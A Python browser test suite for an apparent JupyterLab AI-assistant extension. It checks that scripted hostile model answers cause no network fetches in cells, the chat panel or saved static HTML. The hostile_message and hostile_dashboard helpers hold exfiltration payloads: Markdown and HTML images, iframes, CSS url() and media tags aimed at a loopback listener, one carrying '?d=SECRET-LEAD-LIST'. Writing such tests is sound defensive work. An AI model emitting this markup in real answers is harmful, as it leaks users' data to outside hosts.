"""No answer loads anything from the network without a click: in a cell, in the chat panel, in
the saved notebook's static view.

A hostile answer names a loopback listener in every way that could make a browser fetch on
its own (a Markdown image, ``srcset``, CSS ``url()``, an ``<iframe>``, media, an autolinked
image URL, an ``<img>`` in a table cell or a chart label); the listener must see no request
while the links' text is on screen.
"""

from __future__ import annotations

import json
import subprocess
import sys
import threading
import uuid
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import expect

from nexusleads_lab.testing.modelserver import text

from fetchers import fetchers
from lab_harness import cell, open_notebook, run_all_cells, run_cell, screenshot, widen_side_area, write_notebook

pytestmark = pytest.mark.browser

PANEL = "#jp-right-stack .nx-panel"
SETTLE_MS = 2000  # time for a lazy or delayed fetch to happen, had anything asked for one


class Listener:
    """A loopback HTTP server that counts what is asked of it (and answers with a 1-pixel GIF)."""

    GIF = bytes.fromhex("47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b")

    def __init__(self) -> None:
        self.paths: list[str] = []
        listener = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                listener.paths.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.send_header("Content-Length", str(len(Listener.GIF)))
                self.end_headers()
                self.wfile.write(Listener.GIF)

            do_POST = do_HEAD = do_GET

            def log_message(self, *args):
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.base = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture()
def listener():
    running = Listener()
    yield running
    running.close()


def hostile_message(base: str) -> dict:
    return {
        "type": "message",
        "text": "\n\n".join(
            [
                f"Here is the chart: ![pixel]({base}/md-image.png?d=SECRET-LEAD-LIST)",
                f"And without alt text: ![]({base}/md-image-no-alt.png)",
                f'<img src="{base}/raw-img.png"> <img srcset="{base}/srcset.png 1x"> <iframe src="{base}/iframe.html"></iframe>',
                f'<span style="background-image: url({base}/css-url.png)">styled</span> <div style="background:url({base}/css-bg.png)">bg</div>',
                f'<video src="{base}/video.mp4" autoplay></video> <audio src="{base}/audio.mp3" autoplay></audio>'
                f' <picture><source srcset="{base}/source.png"></picture> <svg><image href="{base}/svg-image.png"/></svg>',
                f"An autolinked image: <{base}/autolink.png> and a bare one: {base}/bare.png",
                f"| preview |\n|---|\n| ![in a table]({base}/table-image.png) |",
            ]
        ),
    }


def hostile_dashboard(base: str) -> dict:
    img = f'<img src="{base}/dashboard-img.png">'
    return {
        "type": "dashboard",
        "title": f"Leads {img}",
        "sections": [
            {"type": "widgets", "items": [{"title": f"Hot {img}", "value": f"![kpi]({base}/kpi.png)", "subtext": img}]},
            {
                "type": "bars",
                "label": f"By name {img}",
                "items": [{"name": f"ada {img}", "value": 3}, {"name": "bob", "value": 2}],
            },
            {
                "type": "table",
                "title": img,
                "columns": ["login", "bio"],
                "rows": [
                    {
                        "login": "mallory",
                        "bio": f'{img} <iframe src="{base}/iframe-cell.html"></iframe> ![x]({base}/cell-md.png)',
                    }
                ],
            },
            {"type": "pills", "label": img, "items": [{"label": f"new {img}", "color": "green", "count": 2}]},
        ],
    }


def fetches_to(page_requests: list[str], base: str) -> list[str]:
    return [url for url in page_requests if url.startswith(base)]


def test_a_hostile_answer_in_a_cell_and_in_its_saved_static_view_fetches_nothing(lab, page, listener, tmp_path):
    requests: list[str] = []
    page.on("request", lambda r: requests.append(r.url))
    lab.model.set_script(
        [text(json.dumps(hostile_message(listener.base))), text(json.dumps(hostile_dashboard(listener.base)))]
    )
    write_notebook(
        lab,
        "no-network.ipynb",
        [
            f"%env NEXUS_USER=cell-{uuid.uuid4().hex[:8]}\n%load_ext nexusleads_lab",
            "%%nexus\nShow me the chart",
            "%%nexus\nAnd the dashboard",
        ],
    )
    open_notebook(page, lab, "no-network.ipynb")
    for i in range(3):
        run_cell(page, i)

    answer = cell(page, 1).locator(".nxl-md")
    image_link = answer.locator("a.nxl-md-image").first
    expect(image_link).to_have_text("pixel")
    expect(image_link).to_have_attribute("href", f"{listener.base}/md-image.png?d=SECRET-LEAD-LIST")
    expect(answer.locator("a.nxl-md-image").nth(1)).to_have_text(f"{listener.base}/md-image-no-alt.png")
    expect(answer.locator("table a.nxl-md-image")).to_have_text("in a table")
    expect(answer).to_contain_text(f'<iframe src="{listener.base}/iframe.html"></iframe>')  # raw HTML is text
    dashboard = cell(page, 2)
    expect(dashboard.locator(".nxl-table td").last).to_contain_text(f'<img src="{listener.base}/dashboard-img.png">')
    expect(dashboard.locator(".jp-RenderedVega5 canvas").first).to_be_attached(timeout=60_000)
    page.wait_for_timeout(SETTLE_MS)
    assert listener.paths == [], "the browser fetched from the answer's URLs"
    assert fetches_to(requests, listener.base) == []
    assert (
        page.locator(f'.jp-OutputArea :is(img, iframe, video, audio, source, image)[src*="{listener.base}"]').count()
        == 0
    )
    screenshot(page, "no-network-cell.png", cell(page, 1))

    # the saved notebook keeps static HTML that loads nothing either, opened as a page of its own
    page.evaluate("() => window.jupyterapp.commands.execute('docmanager:save')")
    saved = lab.root / "no-network.ipynb"
    page.wait_for_function("() => !window.jupyterapp.shell.currentWidget.context.model.dirty", timeout=20_000)
    nb = json.loads(saved.read_text())
    htmls = [
        o["data"]["text/html"] for c in nb["cells"] for o in c.get("outputs", []) if "text/html" in o.get("data", {})
    ]
    htmls = ["".join(h) if isinstance(h, list) else h for h in htmls]
    assert any("nxl-md-image" in h for h in htmls)
    assert [f for h in htmls for f in fetchers(h)] == []
    specs = [
        o["data"]["application/vnd.vega.v5+json"]
        for c in nb["cells"]
        for o in c.get("outputs", [])
        if "application/vnd.vega.v5+json" in o.get("data", {})
    ]
    assert specs, "the chart is saved as Vega"

    def keys(value):
        if isinstance(value, dict):
            for k, v in value.items():
                yield k
                yield from keys(v)
        elif isinstance(value, list):
            for v in value:
                yield from keys(v)

    assert not any(k == "url" for spec in specs for k in keys(spec)), "a saved chart loads no data or image by URL"
    static = tmp_path / "no-network.html"
    subprocess.run(
        [sys.executable, "-m", "nbconvert", "--to", "html", str(saved), "--output-dir", str(tmp_path)],
        check=True,
        capture_output=True,
        timeout=120,
    )
    page.goto(static.as_uri())
    expect(page.locator("a.nxl-md-image").first).to_have_text("pixel")
    expect(page.locator('img[src^="data:image/png;base64,"]').first).to_be_attached()
    page.wait_for_timeout(SETTLE_MS)
    assert listener.paths == [] and fetches_to(requests, listener.base) == []


def ask(page, question: str) -> None:
    box = page.locator(f"{PANEL} .nx-input")
    box.fill(question)
    box.press("Enter")


def test_a_hostile_answer_in_the_chat_panel_fetches_nothing(lab, page, listener):
    requests: list[str] = []
    page.on("request", lambda r: requests.append(r.url))
    write_notebook(
        lab,
        "no-network-panel.ipynb",
        [
            f"%env NEXUS_USER=panel-{uuid.uuid4().hex[:8]}",
            "%load_ext nexusleads_lab",
            "%nexus panel",
        ],
    )
    open_notebook(page, lab, "no-network-panel.ipynb")
    run_all_cells(page)
    page.wait_for_selector(PANEL, state="attached", timeout=60_000)
    widen_side_area(page)
    lab.model.set_script(
        [text(json.dumps(hostile_message(listener.base))), text(json.dumps(hostile_dashboard(listener.base)))]
    )
    ask(page, "Show me the chart")
    answer = page.locator(f"{PANEL} .nx-messages .nx-bot").last
    image_link = answer.locator("a.nx-md-image").first
    expect(image_link).to_have_text("pixel", timeout=30_000)
    expect(image_link).to_have_attribute("href", f"{listener.base}/md-image.png?d=SECRET-LEAD-LIST")
    expect(answer.locator("a.nx-md-image").nth(1)).to_have_text(f"{listener.base}/md-image-no-alt.png")
    expect(answer.locator("table a.nx-md-image")).to_have_text("in a table")
    expect(answer).to_contain_text(f'<iframe src="{listener.base}/iframe.html"></iframe>')
    ask(page, "And the dashboard")
    dashboard = page.locator(f"{PANEL} .nx-messages .nx-bot").last.locator(".nx-dash")
    expect(dashboard.locator(".nx-table td").last).to_contain_text(
        f'<img src="{listener.base}/dashboard-img.png">', timeout=30_000
    )
    expect(dashboard.locator(".nx-bar-row")).to_have_count(2)
    page.wait_for_timeout(SETTLE_MS)
    assert listener.paths == [], "the browser fetched from the answer's URLs"
    assert fetches_to(requests, listener.base) == []
    assert page.locator(f"{PANEL} :is(img, iframe, video, audio, source, image)").count() == 0
    screenshot(page, "no-network-panel.png", page.locator(f"{PANEL} .nx-messages .nx-bot").nth(-2))
